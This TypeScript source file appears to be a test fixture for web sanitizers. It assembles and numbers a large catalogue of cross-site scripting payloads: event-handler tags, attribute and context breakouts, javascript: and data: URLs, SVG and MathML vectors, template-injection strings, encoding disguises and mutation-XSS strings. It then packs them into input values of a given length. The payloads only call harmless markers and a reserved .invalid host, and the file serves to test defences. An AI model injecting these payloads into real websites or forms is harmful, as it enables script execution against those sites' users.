/*
 * In what follows `§` stands for what a payload does when it runs, `xss(17)`, and `$` for its number alone: every one
 * is told from the others.
 */

/** Each so many asks people something instead, as the textbooks do. */
const EVERY = 25;

/** Elements that run a handler as soon as they are there, each with its own event. */
const HANDLERS = [
  "img src=x onerror", "image src=x onerror", "svg onload", "body onload", "video src=x onerror", "audio src=x onerror", "video><source onerror",
  "input autofocus onfocus", "select autofocus onfocus", "textarea autofocus onfocus", "button autofocus onfocus", "a href=# autofocus onfocus",
  "p tabindex=1 autofocus onfocus", "keygen autofocus onfocus", "details open ontoggle", "marquee onstart", "iframe src=/favicon.svg onload",
  "object data=x onerror", "embed src=/favicon.svg onload", "link rel=stylesheet href=/x onerror", "script src=/x onerror", "style onload",
  "input type=image src=x onerror", "a onmouseover", "b onclick", "p onpointerenter", "p oncopy", "p oncontentvisibilityautostatechange style=content-visibility:auto",
  "p onbeforematch", "form onsubmit", "input onbeforeinput", "dialog open onclose", "i popover onbeforetoggle", "body onhashchange", "body onpageshow",
  "frameset onload", "img/src=x/onerror", "svg/onload", "img\nsrc=x\nonerror", "svg\tonload", "svg\fonload", "ſvg onload", "IMG SRC=X ONERROR",
];

/** Ways out of an attribute. */
const OUT_OF_ATTRIBUTES = [
  `" autofocus onfocus="§`, `' autofocus onfocus='§`, `" autofocus onfocus=§ x="`, `' autofocus onfocus=§ x='`, ` autofocus onfocus=§ `,
  `"onmouseover="§`, `'onmouseover='§`, `"/onmouseover=§//`, `" style="animation:x" onanimationstart="§`, `"><script>§</script>`, `'><script>§</script>`,
  `"><svg onload=§>`, `'><svg onload=§>`, `><svg onload=§>`, `"><img src=x onerror=§>`, `'><img src=x onerror=§>`, `"/><img src=x onerror=§>`,
  "`><img src=x onerror=§>", "``onmouseover=§", `&quot; onfocus=§ autofocus x=&quot;`, `&#34;><img src=x onerror=§>`, `\\"><img src=x onerror=§>`, `\\'><img src=x onerror=§>`,
  `" type=image src=x onerror="§`, `" formaction="javascript:§`, `" srcdoc="<svg onload=§>`, `" popover onbeforetoggle="§`,
];

/** Addresses that are programs, bare and in the elements that follow them. */
const ADDRESSES = [
  "javascript:§", "JaVaScRiPt:§", "java\tscript:§", "java\nscript:§", "\u0001javascript:§", " javascript:§", "javascript&colon;§", "javascript://%0a§", "javascript:/*--></title>*/§",
  "data:text/html,<script>§</script>", "data:text/html;charset=utf-8,<svg onload=§>", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='§'/>",
  "vbscript:§", "//xss.invalid/$", "/\\xss.invalid/$", "<a href=javascript:§>x", "<a href='java&#10;script:§'>x", "<a href=&#x6a;avascript:§>x", "<iframe src=javascript:§>",
  "<iframe srcdoc='<svg onload=parent.§>'>", "<form action=javascript:§><button>x", "<button form=f formaction=javascript:§>x", "<object data=javascript:§>", "<embed src=javascript:§>",
  "<base href=//xss.invalid/$/>", "<meta http-equiv=refresh content=0;url=javascript:§>", "<link rel=import href=data:text/html,<script>§</script>>", "<area href=javascript:§>",
];

const SCRIPTS = [
  "<script>§</script>", "<SCRIPT>§</SCRIPT>", "<script >§</script >", "<script/x>§</script>", "<script\n>§</script>", "<script\t>§</script\n>", "<script type=module>§</script>",
  "<script src=data:,§></script>", "<script src=//xss.invalid/$.js></script>", "<scr<script>ipt>§</script>", "<<script>§</script>", "<script>§//", "<script async defer>§</script>",
  "<script nonce>§</script>", "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"/xss-$\"]}]}</script>", "<script type=importmap>{\"imports\":{\"a\":\"data:,§\"}}</script>",
];

/** Pictures and formulas as documents of their own kind. */
const OTHER_KINDS = [
  "<svg><script>§</script></svg>", "<svg><script>&#120;ss($)</script></svg>", "<svg><script href=data:,§ /></svg>", "<svg><a href=javascript:§><text y=9>x", "<svg><a xlink:href=javascript:§><text y=9>x",
  "<svg><animate onbegin=§ attributeName=x dur=1s>", "<svg><set onbegin=§ attributeName=x>", "<svg><animate attributeName=href values=javascript:§ />", "<svg><use href=data:image/svg+xml,<svg id=x onload=§ />#x>",
  "<svg><foreignObject><body onload=§>", "<svg><image href=x onerror=§>", "<svg><style>*{}</style><g onload=§>", "<svg><title><style><img src=x onerror=§></title>", "<svg><desc><img src=x onerror=§>",
  "<math href=javascript:§>x", "<math><maction actiontype=statusline xlink:href=javascript:§>x", "<math><mtext><img src=x onerror=§>", "<math><annotation-xml encoding=text/html><img src=x onerror=§>",
];

/** Ends of what the words may stand in. */
const ENDS = [
  "</textarea>", "</title>", "</script>", "</style>", "</noscript>", "</template>", "</iframe>", "</select></option>", "</xmp>", "</leptos-island>", "</button>", "</svg>", "-->", "--!>", "]]>", "?>",
  "</p></li></td></main>", "</head><body>",
];

/** Words that stand in a program, or in data inside of one. */
const STRINGS = [
  `";§;//`, `';§;//`, "`;§;//", `\\";§;//`, `"-§-"`, `'-§-'`, "${§}", "`${§}`", `"}];§;[{"x":"`, `"}</script><script>§</script>`, `{"@type":"Person","name":"</script><svg onload=§>"}`, "\u2028§\u2028", "\u2029§//",
  "*/§/*", "\\u003cscript\\u003e§\\u003c/script\\u003e", "\\x3csvg onload=§\\x3e", "<!--<script>§", "\n§\n", "{{constructor.constructor('§')()}}", "[[§]]", "<%=§%>", "#{§}", "@{§}",
];

const STYLES = [
  "<style>@import'//xss.invalid/$'</style>", "<p style=background:url(//xss.invalid/$)>", "<p style=width:expression(§)>", "</style><svg onload=§>", "<style>*{animation:x}</style><p onanimationstart=§>",
  "<link rel=stylesheet href=//xss.invalid/$>", "<p style=behavior:url(#default#time2) onbegin=§>", "{}*{background:url(//xss.invalid/$)}",
];

/** The same in letters that somebody might turn back into signs. */
const DISGUISES = [
  "&lt;script&gt;§&lt;/script&gt;", "&#60;svg onload=§&#62;", "&#x3c;svg onload=§&#x3e;", "&lt;img src=x onerror=§", "%3Cscript%3E§%3§/script%3E", "%253Csvg onload=§%253E", "\\74svg onload=§\\76", "＜script＞§＜/script＞",
  "﹤svg onload=§﹥", "‹svg onload=§›", "+ADw-script+AD4-§+ADw-/script+AD4-", "¼script¾§¼/script¾", "<\u0000script>§</script>", "<scr\u0000ipt>§</script>", "<\u200bscript>§</script>", "\ufeff<script>§</script>",
  "\u202e<svg onload=§>\u202c", "<svg\u00a0onload=§>", "<svg\u3000onload=§>", "<ımg src=x onerror=§>", "<\u0338svg onload=§>", "\u{1F600}\"><svg onload=§>", "\u0300<svg onload=§>", "\ufffe<svg onload=§>",
];

/** What is harmless to read, and not after it was written and read again (mutation XSS). */
const MUTATIONS = [
  `<noscript><p title="</noscript><img src=x onerror=§>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=§&gt;">`, `<svg></p><style><a id="</style><img src=x onerror=§>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=§>`, "<listing>&lt;img src=x onerror=§&gt;</listing>", "<xmp><p title=\"</xmp><svg onload=§>\">", "<template><svg onload=§></template>",
  "<select><style></select><svg onload=§></style>", "<table><tr><svg onload=§>", "<p id=a><!--<svg onload=§>--!><svg onload=§>-->", "<img alt=\"`><svg onload=§>\">", "<a title='&quot;><svg onload=§>'>", "<plaintext><svg onload=§>",
];

const ALL = [
  ...HANDLERS.map((start) => `<${start}=§>`),
  ...OUT_OF_ATTRIBUTES,
  ...ADDRESSES,
  ...SCRIPTS,
  ...OTHER_KINDS,
  ...ENDS.map((end) => `${end}<svg onload=§>`),
  ...STRINGS,
  ...STYLES,
  ...DISGUISES,
  ...MUTATIONS,
];

/** What opens something that swallows all that follows. Where several stand in one value, these stand last. */
const SWALLOWS = /<!--|<(plaintext|textarea|xmp|noembed|title|style|iframe|listing|template|select|noscript)\b|<script(?!.*<\/script)|<[^>]*$/is;

/** All payloads: distinct, numbered, those that swallow others at the end. */
export const PAYLOADS: readonly string[] = [...ALL.filter((text) => !SWALLOWS.test(text)), ...ALL.filter((text) => SWALLOWS.test(text))].map((text, number) => {
  const call = number % EVERY === 0 ? `alert(${number})` : `xss(${number})`;
  return text.replaceAll("§", call).replace(/\$(?!\{)/g, `${number}`);
});

/** Values of at most `room` letters that hold all payloads that fit together; one that is longer stands alone, uncut. */
export function values(room: number, fits: (payload: string) => boolean = () => true): { text: string; holds: number[] }[] {
  const made: { text: string; holds: number[] }[] = [];
  PAYLOADS.forEach((payload, number) => {
    if (!fits(payload)) return;
    const last = made.at(-1);
    if (last && last.text.length + 1 + payload.length <= room) {
      last.text += ` ${payload}`;
      last.holds.push(number);
    } else {
      made.push({ text: payload, holds: [number] });
    }
  });
  return made;
}
